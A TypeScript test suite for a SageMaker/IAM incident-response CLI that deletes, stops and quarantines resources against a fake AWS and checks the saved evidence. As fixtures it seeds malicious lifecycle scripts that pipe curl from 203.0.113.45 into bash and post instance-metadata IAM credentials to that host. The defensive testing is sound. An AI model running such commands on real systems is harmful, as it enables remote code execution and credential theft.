/**
 * `sm-ir contain <action>` through the built binary against the wire-level fake: every action from a
 * realistic starting state to its end state, with the evidence and the audit log it leaves.
 */
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ContainResultDocumentSchema, ManifestSchema } from '../../src/core/contain/documents.js';
import { loadPlaybookFile } from '../../src/playbook/load.js';
import { createSts } from '../fake-aws/services/sts.js';
import { auditLog, contain, startWorld, writeCalls, type ContainWorld } from './contain-fake.js';
import { settledChanges } from '../support/audit-lines.js';

// Each test spawns the binary a few times (about a second each, more on a busy machine).
vi.setConfig({ testTimeout: 60_000 });

let w: ContainWorld;
beforeEach(async () => {
  w = await startWorld();
});
afterEach(async () => {
  expect(w.fake.handlerBugs).toEqual([]);
  await w.fake.close();
});

interface Result {
  schema: string;
  plans: { action: string; steps: { operation: string; target: string; permission: string; state: string }[]; kept: { target: string; reason: string }[] }[];
  results: { n: number; target: string; operation: string; outcome: string; requestId: string | null }[];
}
/** Run an action with --yes into the world's case directory; exit 0 expected, the JSON result returned. */
async function apply(args: string[], caseDir = w.caseDir): Promise<Result & { stderr: string }> {
  const r = await contain(w, [...args, '--yes', '--case', caseDir, '--output', 'json']);
  expect(r.code, r.stderr).toBe(0);
  const doc: unknown = JSON.parse(r.stdout);
  // Every result is the documented model (`sm-ir schema sm-ir/contain-result@1`).
  ContainResultDocumentSchema.parse(doc);
  ManifestSchema.parse(JSON.parse(readFileSync(join(caseDir, 'manifest.json'), 'utf8')));
  expectDeclaredPermissions(args[0]!, caseDir);
  return { ...(doc as Result), stderr: r.stderr };
}
/**
 * Every call the run made needs a permission the playbook declares for the action (what `sm-ir playbook
 * containment` tells a responder to grant): a read missing there is an AccessDenied waiting to happen.
 */
function expectDeclaredPermissions(actionId: string, caseDir: string) {
  const action = loadPlaybookFile('containment').actions.find((a) => a.id === actionId)!;
  const declared = new Set([...action.calls, ...action.evidence].map((c) => c.permission));
  const used = new Set(auditLog(caseDir).filter((e) => e.operation !== 'GetCallerIdentity').map((e) => `${e.service}:${e.operation}`));
  expect([...used].filter((p) => !declared.has(p)), `undeclared permissions of ${actionId}`).toEqual([]);
}
const outcomes = (r: Result) => r.results.map((x) => `${x.operation} ${x.target}: ${x.outcome}`);
/** The changes in the audit log (reads left out). */
/** The changes by their settled lines (each change is also logged as sent before its request; settledChanges checks the pairs). */
const changes = (caseDir = w.caseDir) => settledChanges(auditLog(caseDir)).map((e) => `${e.operation}:${e.outcome}`);
const evidenceFiles = (caseDir = w.caseDir) => readdirSync(join(caseDir, 'evidence'), { recursive: true }).map(String);

describe('delete-endpoint', () => {
  it('deletes the endpoint (InService -> Deleting -> gone) and leaves its config and models', async () => {
    w.sm.seed.model('m1');
    w.sm.seed.endpointConfig('cfg1', ['m1']);
    w.sm.seed.endpoint('ep1', 'cfg1');
    const r = await apply(['delete-endpoint', 'ep1']);
    expect(outcomes(r)).toEqual(['DeleteEndpoint endpoint/ep1: ok']);
    expect(w.sm.state.endpoints.has('ep1')).toBe(false);
    expect([...w.sm.state.endpointConfigs.keys()]).toEqual(['cfg1']);
    expect([...w.sm.state.models.keys()]).toEqual(['m1']);
    // It waited for the endpoint to go: DescribeEndpoint saw Deleting, then ValidationException "Could not find".
    expect(w.fake.stats.count({ operation: 'DescribeEndpoint' }, 'ValidationException')).toBeGreaterThanOrEqual(1);
    expect(w.fake.stats.count({ operation: 'DescribeEndpoint' }, 'ok')).toBeGreaterThanOrEqual(2);
  });

  it('--with-config --with-models deletes what only it used and keeps a config and a model other endpoints use', async () => {
    w.sm.seed.model('m-attacker');
    w.sm.seed.model('m-common');
    w.sm.seed.endpointConfig('cfg-attacker', ['m-attacker', 'm-common']);
    w.sm.seed.endpointConfig('cfg-prod', ['m-common']);
    w.sm.seed.endpointConfig('cfg-twin', ['m-attacker-2']);
    w.sm.seed.model('m-attacker-2');
    w.sm.seed.endpoint('ep-attacker', 'cfg-attacker');
    w.sm.seed.endpoint('ep-prod', 'cfg-prod');
    w.sm.seed.endpoint('ep-twin-a', 'cfg-twin');
    w.sm.seed.endpoint('ep-twin-b', 'cfg-twin');

    const r = await apply(['delete-endpoint', 'ep-attacker', 'ep-twin-a', '--with-config', '--with-models']);
    expect(outcomes(r)).toEqual([
      'DeleteEndpoint endpoint/ep-attacker: ok',
      'DeleteEndpointConfig endpoint-config/cfg-attacker: ok',
      'DeleteModel model/m-attacker: ok',
      'DeleteEndpoint endpoint/ep-twin-a: ok',
    ]);
    expect(r.plans[0]?.kept).toEqual([
      { target: 'model/m-common', reason: 'still used by endpoint ep-prod' },
      { target: 'endpoint-config/cfg-twin', reason: 'still used by endpoint ep-twin-b' },
      { target: 'model/m-attacker-2', reason: 'still used by endpoint ep-twin-b' },
    ]);
    expect(r.stderr).toContain('kept: model/m-common: still used by endpoint ep-prod');
    expect([...w.sm.state.endpoints.keys()].sort()).toEqual(['ep-prod', 'ep-twin-b']);
    expect([...w.sm.state.endpointConfigs.keys()].sort()).toEqual(['cfg-prod', 'cfg-twin']);
    expect([...w.sm.state.models.keys()].sort()).toEqual(['m-attacker-2', 'm-common']);
    // Evidence of every target and dependency, taken before the change.
    const files = evidenceFiles();
    for (const f of ['DescribeEndpoint-ep-attacker', 'ListTags-ep-attacker-tags', 'DescribeEndpointConfig-cfg-attacker', 'DescribeModel-m-attacker', 'DescribeModel-m-common', 'ListEndpoints-all']) {
      expect(files.some((x) => x.includes(f)), f).toBe(true);
    }
  });

  it('an endpoint still Creating is waited for, then deleted', async () => {
    // Creating lasts 20 SageMaker calls, so the run finds it still Creating and polls until it is not.
    await w.fake.close();
    w = await startWorld({ afterCalls: 20 });
    w.sm.seed.endpointConfig('cfg', ['m']);
    w.sm.seed.endpoint('ep-new', 'cfg', 'Creating');
    const r = await apply(['delete-endpoint', 'ep-new']);
    expect(outcomes(r)).toEqual(['DeleteEndpoint endpoint/ep-new: ok']);
    expect(w.sm.state.endpoints.size).toBe(0);
    // Never sent while Creating, which AWS refuses.
    expect(writeCalls(w)).toEqual(['DeleteEndpoint:ok']);
    const evidence = evidenceFiles().find((f) => f.endsWith('DescribeEndpoint-ep-new.json'))!;
    expect(JSON.parse(readFileSync(join(w.caseDir, 'evidence', evidence), 'utf8')).response.EndpointStatus).toBe('Creating');
  });
});

describe('a named target that is not there', () => {
  // A typo, or the wrong region or profile, must not read as containment done.
  it.each([
    ['delete-endpoint', 'ep-typo', "endpoint 'ep-typo'"],
    ['delete-endpoint-config', 'cfg-typo', "endpoint config 'cfg-typo'"],
    ['delete-model', 'model-typo', "model 'model-typo'"],
    ['delete-domain', 'd-000000000000', "domain 'd-000000000000'"],
    ['delete-notebook', 'nb-typo', "notebook instance 'nb-typo'"],
  ])('%s %s: exit 1 naming the region and account, no change made', async (action, name, what) => {
    w.sm.seed.endpointConfig('cfg', ['m']);
    w.sm.seed.endpoint('ep-real', 'cfg');
    const r = await contain(w, [action, 'ep-real', name, '--yes', '--case', w.caseDir, '--region', 'eu-west-1'].filter((a) => action === 'delete-endpoint' || a !== 'ep-real'));
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain(`sm-ir: ${what} not found (looked in eu-west-1, account 111122223333); nothing was changed`);
    expect(r.stderr).toContain('hint: check the name, --region and --profile');
    expect(r.stdout).toBe('');
    expect(writeCalls(w)).toEqual([]);
    expect(w.sm.state.endpoints.has('ep-real')).toBe(true);
  });

  it('one deleted by an earlier run of the same case is already done', async () => {
    w.sm.seed.model('m1');
    w.sm.seed.endpointConfig('cfg1', ['m1']);
    w.sm.seed.endpoint('ep1', 'cfg1');
    expect(outcomes(await apply(['delete-endpoint', 'ep1', '--with-config', '--with-models']))).toEqual([
      'DeleteEndpoint endpoint/ep1: ok',
      'DeleteEndpointConfig endpoint-config/cfg1: ok',
      'DeleteModel model/m1: ok',
    ]);
    // Another command in the same case (its audit log then holds several actions' calls, so not apply()).
    const again = async (args: string[]) => {
      const r = await contain(w, [...args, '--yes', '--case', w.caseDir, '--output', 'json']);
      expect(r.code, r.stderr).toBe(0);
      return outcomes(JSON.parse(r.stdout) as Result);
    };
    // The first run's saved plan shows sm-ir deleted the config.
    expect(await again(['delete-endpoint-config', 'cfg1'])).toEqual(['DeleteEndpointConfig endpoint-config/cfg1: already-done']);
    // And a third: the first run's plan is still read, though plan.json is now the second's.
    expect(await again(['delete-model', 'm1'])).toEqual(['DeleteModel model/m1: already-done']);
    expect(writeCalls(w)).toEqual(['DeleteEndpoint:ok', 'DeleteEndpointConfig:ok', 'DeleteModel:ok']);
    // The same names in a fresh case: nothing there, nothing sm-ir did: refused.
    const fresh = await contain(w, ['delete-endpoint-config', 'cfg1', '--yes', '--case', `${w.caseDir}-other`]);
    expect(fresh.code, fresh.stderr).toBe(1);
    expect(fresh.stderr).toContain("endpoint config 'cfg1' not found");
  });
});

describe('delete-endpoint-config and delete-model', () => {
  it('delete an unused config and model; refuse (exit 1, nothing deleted) while an endpoint uses them', async () => {
    w.sm.seed.model('m-old');
    w.sm.seed.endpointConfig('cfg-old', ['m-old']);
    w.sm.seed.model('m-live');
    w.sm.seed.endpointConfig('cfg-live', ['m-live']);
    w.sm.seed.endpoint('ep-live', 'cfg-live');

    expect(outcomes(await apply(['delete-endpoint-config', 'cfg-old']))).toEqual(['DeleteEndpointConfig endpoint-config/cfg-old: ok']);
    expect(outcomes(await apply(['delete-model', 'm-old'], `${w.caseDir}-model`))).toEqual(['DeleteModel model/m-old: ok']);
    expect(w.sm.state.endpointConfigs.has('cfg-old')).toBe(false);
    expect(w.sm.state.models.has('m-old')).toBe(false);

    w.fake.stats.reset();
    const cfg = await contain(w, ['delete-endpoint-config', 'cfg-live', '--yes', '--case', `${w.caseDir}-2`]);
    expect(cfg.code).toBe(1);
    expect(cfg.stderr).toContain('endpoint config cfg-live is in use by endpoint ep-live: not deleting it');
    const model = await contain(w, ['delete-model', 'arn:aws:sagemaker:us-east-1:111122223333:model/m-live', '--yes', '--case', `${w.caseDir}-3`]);
    expect(model.code).toBe(1);
    expect(model.stderr).toContain('model m-live is in use by endpoint ep-live');
    expect(writeCalls(w)).toEqual([]);
    expect(w.sm.state.models.has('m-live')).toBe(true);
  });
});

describe('delete-domain', () => {
  const D = 'd-abc123def456';
  function seedDomain() {
    w.sm.seed.studioLifecycleConfig('JL-Bootstrap', '#!/bin/bash\ncurl -s http://203.0.113.45/jl | bash\n');
    w.sm.seed.domain(D, 'InService', ['JL-Bootstrap']);
    w.sm.seed.userProfile(D, 'alice');
    w.sm.seed.userProfile(D, 'bob');
    w.sm.seed.space(D, 'alice-private', 'alice');
    w.sm.seed.space(D, 'team-shared');
    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null });
    w.sm.seed.app({ domainId: D, appType: 'KernelGateway', appName: 'datascience-1-0-ml-t3-medium', userProfileName: 'bob', spaceName: null });
    w.sm.seed.app({ domainId: D, appType: 'JupyterLab', appName: 'default', userProfileName: null, spaceName: 'alice-private' });
    // Still starting: DeleteApp answers ResourceInUse until it is InService, so the run waits for it.
    w.sm.seed.app({ domainId: D, appType: 'CodeEditor', appName: 'default', userProfileName: null, spaceName: 'team-shared', status: 'Pending' });
    w.sm.seed.app({ domainId: D, appType: 'KernelGateway', appName: 'crashed', userProfileName: 'bob', spaceName: null, status: 'Failed' });
    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'old', userProfileName: 'bob', spaceName: null, status: 'Deleted' });
  }

  it('apps, then spaces and user profiles, then the domain; the home EFS is retained', async () => {
    seedDomain();
    const efs = [...w.sm.state.homeEfs][0];
    // Two transient 500s on the way are retried with backoff, not reported.
    w.fake.faults.serverError({ operation: 'DeleteSpace' }, 2);
    const r = await apply(['delete-domain', D]);
    expect(outcomes(r)).toEqual([
      `DeleteApp app/${D}/alice/JupyterServer/default: ok`,
      `DeleteApp app/${D}/bob/KernelGateway/datascience-1-0-ml-t3-medium: ok`,
      `DeleteApp app/${D}/alice-private/JupyterLab/default: ok`,
      `DeleteApp app/${D}/team-shared/CodeEditor/default: ok`,
      `DeleteSpace space/${D}/alice-private: ok`,
      `DeleteSpace space/${D}/team-shared: ok`,
      `DeleteUserProfile user-profile/${D}/alice: ok`,
      `DeleteUserProfile user-profile/${D}/bob: ok`,
      `DeleteDomain domain/${D}: ok`,
    ]);
    expect(w.sm.state.domains.has(D)).toBe(false);
    expect(w.sm.state.userProfiles.size + w.sm.state.spaces.size).toBe(0);
    expect(w.sm.state.homeEfs.has(efs!)).toBe(true);
    expect(auditLog(w.caseDir).find((e) => e.operation === 'DeleteDomain')?.parameters).toEqual({ DomainId: D, RetentionPolicy: { HomeEfsFileSystem: 'Retain' } });
    expect(w.fake.stats.count({ operation: 'DeleteSpace' }, 'InternalFailure')).toBe(2);
    // No call ever hit ResourceInUse: each stage waited for the one before it.
    expect(w.fake.stats.count({}, 'ResourceInUse')).toBe(0);
    const files = evidenceFiles();
    for (const f of ['DescribeDomain', 'ListTags-' + D, 'ListApps', 'ListUserProfiles', 'ListSpaces', 'DescribeUserProfile-' + D + '-alice', 'DescribeUserProfile-' + D + '-bob', 'DescribeSpace-' + D + '-alice-private', 'DescribeSpace-' + D + '-team-shared', 'ListStudioLifecycleConfigs', 'DescribeStudioLifecycleConfig-JL-Bootstrap']) {
      expect(files.some((x) => x.includes(f)), f).toBe(true);
    }
    // The Studio lifecycle script its users' JupyterLab ran, decoded.
    const script = files.find((x) => x.endsWith('studio-lifecycle-JL-Bootstrap-JupyterLab.sh'))!;
    expect(readFileSync(join(w.caseDir, 'evidence', script), 'utf8')).toBe('#!/bin/bash\ncurl -s http://203.0.113.45/jl | bash\n');
  });

  it('an app already being deleted is waited for, then the rest goes ahead', async () => {
    await w.fake.close();
    w = await startWorld({ afterCalls: 20 });
    w.sm.seed.domain(D);
    w.sm.seed.userProfile(D, 'alice');
    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null, status: 'Deleting' });
    const r = await apply(['delete-domain', D]);
    expect(outcomes(r)).toEqual([`DeleteApp app/${D}/alice/JupyterServer/default: already-done`, `DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
    expect(w.sm.state.domains.has(D)).toBe(false);
    expect(writeCalls(w)).toEqual(['DeleteApp:ResourceInUse', 'DeleteUserProfile:ok', 'DeleteDomain:ok']);
  });

  it('--delete-home-efs deletes the home file system with the domain', async () => {
    w.sm.seed.domain(D);
    w.sm.seed.userProfile(D, 'alice');
    const efs = [...w.sm.state.homeEfs][0];
    const r = await apply(['delete-domain', `arn:aws:sagemaker:us-east-1:111122223333:domain/${D}`, '--delete-home-efs']);
    expect(outcomes(r)).toEqual([`DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
    expect(w.sm.state.homeEfs.has(efs!)).toBe(false);
  });
});

describe('notebooks', () => {
  it('disable-root-access on a running notebook: stop, wait Stopped, update, start again', async () => {
    w.sm.seed.notebook('nb-run');
    const r = await apply(['disable-root-access', 'nb-run']);
    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-run: ok', 'UpdateNotebookInstance notebook/nb-run: ok', 'StartNotebookInstance notebook/nb-run: ok']);
    expect(w.sm.state.notebooks.get('nb-run')).toMatchObject({ status: 'InService', rootAccess: 'Disabled' });
    // The update was never sent while the notebook was still Stopping.
    expect(w.fake.stats.count({ operation: 'UpdateNotebookInstance' })).toBe(1);
  });

  it('disable-root-access on a stopped notebook leaves it stopped; --no-restart leaves a running one stopped; already disabled is done', async () => {
    w.sm.seed.notebook('nb-stopped', { status: 'Stopped' });
    w.sm.seed.notebook('nb-run');
    w.sm.seed.notebook('nb-safe', { rootAccess: 'Disabled' });
    expect(outcomes(await apply(['disable-root-access', 'nb-stopped']))).toEqual(['UpdateNotebookInstance notebook/nb-stopped: ok']);
    expect(w.sm.state.notebooks.get('nb-stopped')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
    expect(outcomes(await apply(['disable-root-access', 'nb-run', '--no-restart'], `${w.caseDir}-2`))).toEqual([
      'StopNotebookInstance notebook/nb-run: ok',
      'UpdateNotebookInstance notebook/nb-run: ok',
    ]);
    expect(w.sm.state.notebooks.get('nb-run')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
    w.fake.stats.reset();
    expect(outcomes(await apply(['disable-root-access', 'nb-safe'], `${w.caseDir}-3`))).toEqual(['UpdateNotebookInstance notebook/nb-safe: already-done']);
    expect(writeCalls(w)).toEqual([]);
  });

  it('disable-root-access never restarts into an attached lifecycle script unless --restart; the plan says why', async () => {
    w.sm.seed.lifecycleConfig('evil-lcc', ['#!/bin/bash\ncurl -s http://203.0.113.45/x | bash\n']);
    w.sm.seed.notebook('nb-lcc', { lifecycleConfigName: 'evil-lcc' });
    w.sm.seed.notebook('nb-lcc-2', { lifecycleConfigName: 'evil-lcc' });
    const dry = await contain(w, ['disable-root-access', 'nb-lcc', '--dry-run']);
    expect(dry.stdout).toContain('kept: notebook/nb-lcc: left stopped: restarting would run the OnStart script of lifecycle configuration evil-lcc as root');
    expect(outcomes(await apply(['disable-root-access', 'nb-lcc']))).toEqual(['StopNotebookInstance notebook/nb-lcc: ok', 'UpdateNotebookInstance notebook/nb-lcc: ok']);
    expect(w.sm.state.notebooks.get('nb-lcc')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
    expect(outcomes(await apply(['disable-root-access', 'nb-lcc-2', '--restart'], `${w.caseDir}-2`))).toContain('StartNotebookInstance notebook/nb-lcc-2: ok');
    expect(w.sm.state.notebooks.get('nb-lcc-2')).toMatchObject({ status: 'InService', rootAccess: 'Disabled' });
  });

  it('stop-notebook: InService -> Stopped; a stopped one is already done', async () => {
    w.sm.seed.notebook('nb1');
    w.sm.seed.notebook('nb2', { status: 'Stopped' });
    const r = await apply(['stop-notebook', 'nb1', 'nb2']);
    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb1: ok', 'StopNotebookInstance notebook/nb2: already-done']);
    expect(w.sm.state.notebooks.get('nb1')?.status).toBe('Stopped');
    expect(changes()).toEqual(['StopNotebookInstance:ok', 'StopNotebookInstance:already-done']);
  });

  it('work someone else already started is waited for and reported done, not failed on the state', async () => {
    // Transitions last 20 SageMaker calls, so the run finds them under way whatever the machine speed.
    await w.fake.close();
    w = await startWorld({ afterCalls: 20 });
    w.sm.seed.notebook('nb-stopping', { status: 'Stopping' });
    const r = await apply(['stop-notebook', 'nb-stopping']);
    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-stopping: already-done']);
    expect(w.sm.state.notebooks.get('nb-stopping')?.status).toBe('Stopped');
    w.sm.seed.job('training', 'job-stopping', 'Stopping');
    const job = await apply(['stop-job', 'job-stopping', '--job-type', 'training'], `${w.caseDir}-job`);
    expect(outcomes(job)).toEqual(['StopTrainingJob training-job/job-stopping: already-done']);
    expect(w.sm.state.jobs.get('training/job-stopping')?.status).toBe('Stopped');
    // Found on their way to the end state, they are waited for: no call that AWS would refuse for the state.
    expect(writeCalls(w)).toEqual([]);
  });

  it('delete-notebook stops it first; a notebook still starting (Pending) is waited for, stopped and deleted', async () => {
    w.sm.seed.notebook('nb-run');
    w.sm.seed.notebook('nb-starting', { status: 'Pending' });
    const r = await apply(['delete-notebook', 'nb-run', 'nb-starting']);
    expect(outcomes(r)).toEqual([
      'StopNotebookInstance notebook/nb-run: ok',
      'DeleteNotebookInstance notebook/nb-run: ok',
      'StopNotebookInstance notebook/nb-starting: ok',
      'DeleteNotebookInstance notebook/nb-starting: ok',
    ]);
    expect(w.sm.state.notebooks.size).toBe(0);
    // No call was refused for a wrong state: each one waited for the state it needs.
    expect(w.fake.stats.count({}, 'ValidationException')).toBe(w.fake.stats.count({ operation: 'DescribeNotebookInstance' }, 'ValidationException'));
  });

  it('a notebook and an app that fail while starting are not stopped or deleted first: the rest goes ahead', async () => {
    await w.fake.close();
    w = await startWorld({ afterCalls: 20 });
    w.sm.seed.notebook('nb-doomed', { status: 'Pending', settlesTo: 'Failed' });
    const r = await apply(['delete-notebook', 'nb-doomed']);
    expect(outcomes(r)).toEqual(['StopNotebookInstance notebook/nb-doomed: already-done', 'DeleteNotebookInstance notebook/nb-doomed: ok']);
    expect(w.sm.state.notebooks.size).toBe(0);
    const D = 'd-abc123def456';
    w.sm.seed.domain(D);
    w.sm.seed.userProfile(D, 'alice');
    w.sm.seed.app({ domainId: D, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null, status: 'Pending', settlesTo: 'Failed' });
    const d = await apply(['delete-domain', D], `${w.caseDir}-domain`);
    expect(outcomes(d)).toEqual([`DeleteApp app/${D}/alice/JupyterServer/default: already-done`, `DeleteUserProfile user-profile/${D}/alice: ok`, `DeleteDomain domain/${D}: ok`]);
    expect(w.sm.state.domains.size).toBe(0);
  });

  it('detach-lifecycle-config --delete: detaches, restarts, deletes the config no other notebook uses, keeps a shared one', async () => {
    w.sm.seed.lifecycleConfig('lcc-evil', ['#!/bin/bash\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- https://203.0.113.45/c\n']);
    w.sm.seed.lifecycleConfig('lcc-shared', ['#!/bin/bash\necho shared\n']);
    w.sm.seed.notebook('nb-victim', { lifecycleConfigName: 'lcc-evil' });
    w.sm.seed.notebook('nb-a', { lifecycleConfigName: 'lcc-shared', status: 'Stopped' });
    w.sm.seed.notebook('nb-b', { lifecycleConfigName: 'lcc-shared', status: 'Stopped' });
    const r = await apply(['detach-lifecycle-config', 'nb-victim', 'nb-a', '--delete']);
    expect(outcomes(r)).toEqual([
      'StopNotebookInstance notebook/nb-victim: ok',
      'UpdateNotebookInstance notebook/nb-victim: ok',
      'StartNotebookInstance notebook/nb-victim: ok',
      'DeleteNotebookInstanceLifecycleConfig lifecycle-config/lcc-evil: ok',
      'UpdateNotebookInstance notebook/nb-a: ok',
    ]);
    expect(r.plans[0]?.kept).toEqual([{ target: 'lifecycle-config/lcc-shared', reason: 'still used by notebook nb-b' }]);
    expect(w.sm.state.notebooks.get('nb-victim')).toMatchObject({ status: 'InService', lifecycleConfigName: null });
    expect(w.sm.state.notebooks.get('nb-a')).toMatchObject({ status: 'Stopped', lifecycleConfigName: null });
    expect([...w.sm.state.lifecycleConfigs.keys()]).toEqual(['lcc-shared']);
    // The deleted script is kept, decoded, in the evidence.
    const script = evidenceFiles().find((f) => f.endsWith('lifecycle-lcc-evil-OnStart-1.sh'));
    expect(readFileSync(join(w.caseDir, 'evidence', script!), 'utf8')).toContain('169.254.169.254/latest/meta-data/iam/security-credentials/');
  });
});

describe('stop-job', () => {
  it.each([
    ['training', 'TrainingJob', 'xmrig-train'],
    ['processing', 'ProcessingJob', 'feature-export-20261127'],
    ['transform', 'TransformJob', 'fraud-rescore-20261127'],
    ['tuning', 'HyperParameterTuningJob', 'bench-hpo'],
  ] as const)('%s: InProgress -> Stopping -> Stopped; a finished one is already done', async (type, noun, name) => {
    w.sm.seed.job(type, name);
    w.sm.seed.job(type, 'finished-job', 'Completed');
    const r = await apply(['stop-job', name, 'finished-job', '--job-type', type]);
    expect(outcomes(r)).toEqual([`Stop${noun} ${type}-job/${name}: ok`, `Stop${noun} ${type}-job/finished-job: already-done`]);
    expect(w.sm.state.jobs.get(`${type}/${name}`)?.status).toBe('Stopped');
    expect(w.sm.state.jobs.get(`${type}/finished-job`)?.status).toBe('Completed');
    expect(writeCalls(w)).toEqual([`Stop${noun}:ok`]);
    expect(r.plans[0]?.steps[0]?.permission).toBe(`sagemaker:Stop${noun}`);
    expect(evidenceFiles().some((f) => f.includes(`Describe${noun}-${name}`))).toBe(true);
    expect(evidenceFiles().some((f) => f.includes(`ListTags-${name}-tags`))).toBe(true);
  });
});

describe('IAM', () => {
  it('quarantine-role attaches a deny-all inline policy; running it again is already done', async () => {
    w.iam.seed.role('AmazonSageMaker-ExecutionRole-MlCi', { path: '/service-role/' });
    const arn = 'arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole-MlCi';
    expect(outcomes(await apply(['quarantine-role', arn]))).toEqual(['PutRolePolicy role/AmazonSageMaker-ExecutionRole-MlCi: ok']);
    const doc = JSON.parse(w.iam.state.roles.get('AmazonSageMaker-ExecutionRole-MlCi')!.inline.get('sm-ir-quarantine')!) as { Statement: unknown[] };
    expect(doc.Statement).toEqual([expect.objectContaining({ Effect: 'Deny', Action: '*', Resource: '*' })]);
    expect(outcomes(await apply(['quarantine-role', 'AmazonSageMaker-ExecutionRole-MlCi']))).toEqual(['PutRolePolicy role/AmazonSageMaker-ExecutionRole-MlCi: already-done']);
    expect(changes()).toEqual(['PutRolePolicy:ok', 'PutRolePolicy:already-done']);
    // The second run's evidence holds the policy the first attached, decoded from IAM's URL encoding.
    const second = evidenceFiles().find((f) => f.endsWith('GetRolePolicy-AmazonSageMaker-ExecutionRole-MlCi-sm-ir-quarantine.json'));
    const ev = JSON.parse(readFileSync(join(w.caseDir, 'evidence', second!), 'utf8')) as { decodedPolicyDocuments: { Statement: { Effect: string }[] }[] };
    expect(ev.decodedPolicyDocuments[0]?.Statement[0]?.Effect).toBe('Deny');
  });

  it('revoke-sessions denies every session issued before the run (aws:TokenIssueTime), as the IAM console does', async () => {
    w.iam.seed.role('DataScientist');
    const before = Date.now();
    await apply(['revoke-sessions', 'DataScientist']);
    const after = Date.now();
    const doc = JSON.parse(w.iam.state.roles.get('DataScientist')!.inline.get('AWSRevokeOlderSessions')!) as {
      Statement: { Effect: string; Action: unknown; Resource: unknown; Condition: { DateLessThan: { 'aws:TokenIssueTime': string } } }[];
    };
    const st = doc.Statement[0]!;
    expect(st).toMatchObject({ Effect: 'Deny', Action: ['*'], Resource: ['*'] });
    const issued = Date.parse(st.Condition.DateLessThan['aws:TokenIssueTime']);
    expect(issued).toBeGreaterThanOrEqual(before - 1000);
    expect(issued).toBeLessThanOrEqual(after);
  });

  it("a role's attached managed policies are kept with their documents (GetPolicy, GetPolicyVersion)", async () => {
    w.iam.seed.policy('arn:aws:iam::111122223333:policy/ci-deploy', { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' }] });
    w.iam.seed.role('Exec', { attached: ['arn:aws:iam::aws:policy/AmazonSageMakerFullAccess', 'arn:aws:iam::111122223333:policy/ci-deploy'] });
    await apply(['quarantine-role', 'Exec']);
    const version = evidenceFiles().find((f) => f.endsWith('GetPolicyVersion-ci-deploy-v1.json'))!;
    const ev = JSON.parse(readFileSync(join(w.caseDir, 'evidence', version), 'utf8')) as { decodedPolicyDocuments: unknown[] };
    expect(ev.decodedPolicyDocuments).toEqual([{ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' }] }]);
    expect(evidenceFiles().some((f) => f.endsWith('GetPolicyVersion-AmazonSageMakerFullAccess-v3.json'))).toBe(true);
  });

  it('deactivate-access-key: every Active key Inactive (never deleted), evidence of their last use; a re-run changes nothing', async () => {
    w.iam.seed.user('ml-ci-deployer', {
      keys: [{ id: 'AKIAIOSFODNN7EXAMPLE', status: 'Active', lastUsed: { date: '2026-11-27T09:12:00Z', service: 'sagemaker', region: 'us-east-1' } }, 'AKIAI44QH8DHBEXAMPLE'],
      inline: new Map([['deploy', '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"sagemaker:*","Resource":"*"}]}']]),
      groups: ['ci'],
    });
    const r = await apply(['deactivate-access-key', 'arn:aws:iam::111122223333:user/ci/ml-ci-deployer']);
    expect(outcomes(r)).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: ok', 'UpdateAccessKey access-key/ml-ci-deployer/AKIAI44QH8DHBEXAMPLE: ok']);
    expect(r.plans[0]!.steps.map((s) => s.permission)).toEqual(['iam:UpdateAccessKey', 'iam:UpdateAccessKey']);
    expect(w.iam.state.users.get('ml-ci-deployer')!.keys.map((k) => k.status)).toEqual(['Inactive', 'Inactive']);
    const lastUsed = evidenceFiles().find((f) => f.endsWith('GetAccessKeyLastUsed-AKIAIOSFODNN7EXAMPLE.json'))!;
    expect(JSON.parse(readFileSync(join(w.caseDir, 'evidence', lastUsed), 'utf8')).response).toMatchObject({ UserName: 'ml-ci-deployer', AccessKeyLastUsed: { ServiceName: 'sagemaker', Region: 'us-east-1' } });
    for (const op of ['GetUser', 'ListAccessKeys', 'GetUserPolicy-ml-ci-deployer-deploy', 'ListAttachedUserPolicies', 'ListGroupsForUser', 'GetPolicyVersion-AmazonSageMakerFullAccess']) {
      expect(evidenceFiles().some((f) => f.includes(op)), op).toBe(true);
    }
    w.fake.stats.reset();
    const again = await apply(['deactivate-access-key', 'ml-ci-deployer'], `${w.caseDir}-2`);
    expect(outcomes(again)).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: already-done', 'UpdateAccessKey access-key/ml-ci-deployer/AKIAI44QH8DHBEXAMPLE: already-done']);
    expect(writeCalls(w)).toEqual([]);
  });

  it('deactivate-access-key --access-key-id: only that key; the user\'s other Active key is named as kept', async () => {
    w.iam.seed.user('ml-ci-deployer', { keys: ['AKIAIOSFODNN7EXAMPLE', 'AKIAI44QH8DHBEXAMPLE'] });
    const r = await apply(['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIAIOSFODNN7EXAMPLE']);
    expect(outcomes(r)).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: ok']);
